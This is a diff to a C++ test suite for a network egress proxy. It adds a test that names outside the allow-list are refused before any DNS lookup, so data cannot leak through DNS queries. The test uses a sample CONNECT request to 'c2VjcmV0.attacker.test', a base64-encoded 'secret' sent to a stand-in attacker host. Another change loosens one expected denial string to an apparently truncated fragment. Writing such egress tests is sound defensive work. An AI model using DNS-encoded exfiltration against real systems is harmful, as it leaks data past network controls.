@@ -136,6 +136,7 @@ private Q_SLOTS:
     void refusedBeforeConnect_data();
     void refusedBeforeConnect();
     void denyOutAndNoInternetRefuse();
+    void unlistedNamesAreNotLookedUp();
     void protectedEndpointRefused();
     void hostAliasThroughProxy();
     void setPolicyAppliesToNewConnections();
@@ -434,7 +435,7 @@ void TestEgress::decide_data()
         << "2001:db8::/32";
     QTest::newRow("allow list: v6 outside")
         << allowList << "v6.test" << 443 << QStringList { "2001:db9::5" } << ""
-        << "denyOut \"::/0\"";
+        << "denyOut \"";
     QTest::newRow("allow list: picks allowed address")
         << allowList << "dns.test" << 53 << QStringList { "9.9.9.9", "8.8.8.4" } << "8.8.8.4"
         << "8.8.8.0/24";
@@ -879,6 +880,36 @@ void TestEgress::denyOutAndNoInternetRefuse()
             exchange(proxy->serverPort(), "GET " + originUrl("/hello") + " HTTP/1.1\r\n\r\n");
         QCOMPARE(bodyOf(ok), QByteArray("hello from origin"));
     }
+}
+
+void TestEgress::unlistedNamesAreNotLookedUp()
+{
+    // A run's allow-list: a name that no entry could let through is refused before any DNS
+    // query (a sandbox could otherwise send data out encoded in names it asks for).
+    HostResolver strict;
+    strict.setStrict(true); // a lookup would fail with 502 instead of the policy's 403
+    EgressProxy proxy(
+        policy(R"({"network":{"allowOut":["example.test"],"denyOut":["0.0.0.0/0"]}})"), &strict);
+    QVERIFY(proxy.listen(QHostAddress(QHostAddress::LocalHost)));
+    QSignalSpy refused(&proxy, &EgressProxy::refused);
+    const QByteArray response =
+        exchange(proxy.serverPort(), "CONNECT c2VjcmV0.attacker.test:443 HTTP/1.1\r\n\r\n");
+    QVERIFY2(response.startsWith("HTTP/1.1 403"), response.constData());
+    QVERIFY(bodyOf(response).contains("denies the rest"));
+    QCOMPARE(refused.size(), 1);
+
+    // When an address entry might match, the name must be resolved to decide.
+    const EgressPolicy withAddress =
+        policy(R"({"network":{"allowOut":["203.0.113.7"],"denyOut":["0.0.0.0/0"]}})");
+    QVERIFY(!withAddress.refusalWithoutLookup(QStringLiteral("x.test"), 443));
+    // Internet open: nothing to refuse before the lookup.
+    QVERIFY(!policy("{}").refusalWithoutLookup(QStringLiteral("x.test"), 443));
+    // Listed names and IP literals are decided as usual.
+    QVERIFY(!policy(R"({"network":{"allowOut":["*.example.test"],"denyOut":["0.0.0.0/0"]}})")
+                 .refusalWithoutLookup(QStringLiteral("a.example.test"), 443));
+    // ALL_TRAFFIC (0.0.0.0/0) denies IPv6 too.
+    const EgressPolicy all = policy(R"({"network":{"denyOut":["0.0.0.0/0"]}})");
+    QVERIFY(!all.decide(QStringLiteral("v6.test"), 443, addresses({ "2001:db8::1" })).allowed);
 }
 
 void TestEgress::protectedEndpointRefused()
